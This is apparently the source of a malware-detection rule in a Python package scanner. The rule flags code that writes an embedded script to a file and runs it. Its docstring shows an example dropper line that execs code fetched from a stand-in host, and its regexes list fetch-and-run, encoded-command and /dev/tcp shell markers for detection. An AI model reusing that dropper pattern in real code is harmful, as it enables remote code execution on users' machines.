"""What it sees
    Program text or a program that is written to a file from a constant of this file (a script that fetches and
    executes, an encoded binary, a batch or VBScript file) and then started.

Why it matters
    Writing the next stage to a temporary file keeps it out of the module that scanners read, and lets it outlive
    the process that started it.

Example
    temp.write(b"from urllib.request import urlopen;exec(urlopen('https://files.example.test/a').read())")
    os.system(f"start pythonw {temp.name}")

What to do
    Do not install or import it.

False alarms
    Build tools and test suites write small scripts and run them; without fetching or hiding they are context.

References
    ATT&CK T1027.009 (Embedded Payloads), T1059.006, T1204.002.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import file_tags, once, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_sources import looks_like_program
from lazaretto.parse.py_values import Value
from lazaretto.parse.python import PythonModule

_DROPS = N_("writes a program that it carries to a file and starts it")
_FETCHER = N_("writes a script that downloads and runs code, and starts it")

_BAD = re.compile(
    r"exec\s*\([^\n]{0,200}(?:urlopen|requests\.|get\()|urlopen[^\n]{0,300}exec|(?:curl|wget)\s[^\0]{1,400}(?:chmod|python|\|\s*(?:ba)?sh|start\s)"
    r"|exec\s*\(\s*Fernet|exec\s*\([^\n]{0,200}decrypt|-enc|EncodedCommand|DownloadString|DownloadFile|Invoke-WebRequest|urlretrieve|CreateObject\(|b64decode|/dev/tcp/|socket\.socket"
    r"|requests\.(?:get|post)\(|webhooks/",
    re.IGNORECASE,
)

_BAD_WORDS = (
    b"curl", b"wget", b"-enc", b"encodedcommand", b"download", b"invoke-", b"createobject(",
    b"/dev/tcp/", b"webhooks/", b"urlretrieve", b"decrypt", b"mz",
)  # fmt: skip
"""Without one of these, or `_EXEC`, no written text can match `_BAD`."""
_QUOTED = (
    b"import os", b"import sys", b"import subprocess", b"import requests", b"import socket", b"import base64",
    b"import urllib", b"exec(", b"eval(", b"urlopen", b"subprocess", b"os.system", b"@echo off", b"#!/bin/",
    b"WScript.", b"powershell", b"child_process",
)  # fmt: skip
"""What programs hold (`looks_like_program`)."""
_EXEC = re.compile(rb"(?<![\w.])exec\s{0,20}\(")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield every start of a dropped program."""
    if not view.speaks("process") or b"write" not in view.blob.data or not _may_drop(view):
        return
    seen: set[object] = set()
    for call in view.facts.calls:
        if not starts_process(call) or "file:code" not in file_tags(view, call) or not once(seen, call.line):
            continue
        kind = _worst(view)
        unasked = view.unasked(call.scope)
        severity, confidence = Severity.LOW, Confidence.MEDIUM
        if kind:
            severity = Severity.LOW if view.is_test and not unasked else Severity.HIGH
            confidence = Confidence.HIGH if unasked or kind == "fetches" or kind == "encoded" else Confidence.MEDIUM
        elif unasked and not view.is_side:
            severity, confidence = Severity.MEDIUM, Confidence.MEDIUM if view.is_setup else Confidence.LOW
        yield Match(
            _FETCHER if kind == "fetches" else _DROPS,
            call.line,
            call.column,
            excerpt=view.quote(call.line),
            severity=severity,
            confidence=confidence,
            phase=view.phase(call.scope),
            layers=call.layers,
        )


def _may_drop(view: PythonModule) -> bool:
    """Tell by its bytes whether the file may hold a program as text, or acts unasked."""
    if view.is_setup or view.blob.name == "__init__.py" or view.speaks("net") or view.speaks("decode"):
        return True
    data = view.blob.data.lower()
    return (
        any(word in data for word in _BAD_WORDS)
        or view.speaks("disguise")
        or b"cmdclass" in data
        or (b"get(" in data and _EXEC.search(data) is not None)
        or _quotes_program(view.blob.data)
    )


def _quotes_program(data: bytes) -> bool:
    """Tell whether a word of programs stands behind a quote on its line, or between triple quotes."""
    for word in _QUOTED:
        at, before, double, single = data.find(word), 0, 0, 0
        while at >= 0:
            start = max(at - 2000, 0)
            line = data[max(data.rfind(b"\n", start, at) + 1, start) : at]
            # counted on from the last place: a hostile file may hold the word a hundred thousand times
            double += data.count(b'"""', before, at)
            single += data.count(b"'''", before, at)
            if b'"' in line or b"'" in line or double % 2 or single % 2:
                return True
            before, at = at, data.find(word, at + len(word))
    return False


def _worst(view: PythonModule) -> str:
    """Return what the written programs do: `fetches`, `encoded`, or nothing remarkable."""
    kinds = {
        _kind(call.args[0])
        for call in view.facts.calls
        if call.attr in {"write", "write_bytes", "write_text", "writelines"} and call.args
    }
    return "fetches" if "fetches" in kinds else "encoded" if "encoded" in kinds else ""


def _kind(value: Value) -> str:
    if not looks_like_program(value):
        return ""
    if "lit" in value.tags and any(tag.startswith("dec:") for tag in value.tags):
        return "encoded"
    return "fetches" if _BAD.search(value.shape) else ""


RULE = Rule(
    id="py/drops-and-runs",
    title=N_("Writes a program that it carries, and starts it"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1027.009", "T1059.006"),
)
